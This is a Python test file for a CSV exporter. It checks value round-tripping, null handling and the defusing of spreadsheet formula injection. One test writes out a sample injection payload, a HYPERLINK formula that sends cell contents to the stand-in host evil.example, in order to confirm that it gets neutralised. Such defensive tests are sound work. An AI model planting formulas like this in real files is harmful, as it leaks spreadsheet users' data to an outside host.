"""CSV that any reader reads back, and that no spreadsheet runs."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from copydesk.model.raw import Reject
from copydesk.model.tables import TABLES
from copydesk.outputs.csv import FORMULA_STARTS, csv_cell
from copydesk.outputs.export import export
from copydesk.outputs.settings import ExportSettings
from copydesk.record.case import Case
from copydesk.record.columns import ColumnKind, columns_of, plain
from copydesk.record.draft import Draft
from tests.record.sample import build_sample

(SOURCE, RECORD_ID, *_) = columns_of(Reject)


def read(file: Path) -> list[dict[str, str]]:
    csv.field_size_limit(sys.maxsize)
    return list(csv.DictReader(io.StringIO(file.read_bytes().decode("utf-8"), newline="")))


@pytest.mark.parametrize("name", TABLES)
def test_values_are_those_of_the_case(tmp_path: Path, name: str) -> None:
    with Case.open(build_sample(tmp_path / "case")) as case:
        (file,) = export(case, tmp_path, "csv", [name])
        wanted = [
            [as_csv_has_it(plain(getattr(row, column.name)), column.kind) for column in columns_of(type(row))]
            for row in case.table(name)
        ]
    assert [list(row.values()) for row in read(file)] == wanted
    assert file.read_bytes().startswith((",".join(TABLES[name].columns) + "\r\n").encode())


def as_csv_has_it(value: object, kind: ColumnKind) -> str:
    if value is None:
        return ""
    if kind is ColumnKind.LIST:
        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    return str(value).lower() if kind is ColumnKind.BOOLEAN else str(value)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_formula_injection_is_defused(tmp_path: Path, start: str) -> None:
    attack = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"Read more")'
    with Draft(tmp_path / "case", rejects_kept=9) as draft:
        draft.reject(Reject(attack, attack, "empty", attack))
        draft.publish(version="test", seconds=0)
    with Case.open(tmp_path / "case") as case:
        (file,) = export(case, tmp_path, "csv", ["rejects"])
        (row,) = read(file)
        assert row == {"source": "'" + attack, "record_id": "'" + attack, "code": "empty", "reason": "'" + attack}
        (file,) = export(case, tmp_path, "csv", ["rejects"], settings=ExportSettings(guard_formulas=False))
        assert read(file)[0]["source"] == attack


@given(st.text(st.characters(exclude_categories=["Cs"])) | st.sampled_from([*FORMULA_STARTS, "'", "'=1"]))
def test_taking_one_apostrophe_away_gives_the_data_back(text: str) -> None:
    cell = csv_cell(SOURCE, text, ExportSettings())
    ((read_back,),) = csv.reader(io.StringIO(cell + "\r\n", newline=""))
    assert read_back.removeprefix("'") == text
    assert not read_back.startswith(FORMULA_STARTS)


def test_numbers_are_never_touched() -> None:
    columns = {column.name: column for column in columns_of(TABLES["substitutions"].row)}
    assert csv_cell(columns["begin"], -5, ExportSettings()) == "-5"
    assert csv_cell(columns["confidence"], -0.5, ExportSettings()) == "-0.5"


def test_null_and_empty_text_differ() -> None:
    assert csv_cell(RECORD_ID, None, ExportSettings()) == ""
    assert csv_cell(RECORD_ID, "", ExportSettings()) == '""'
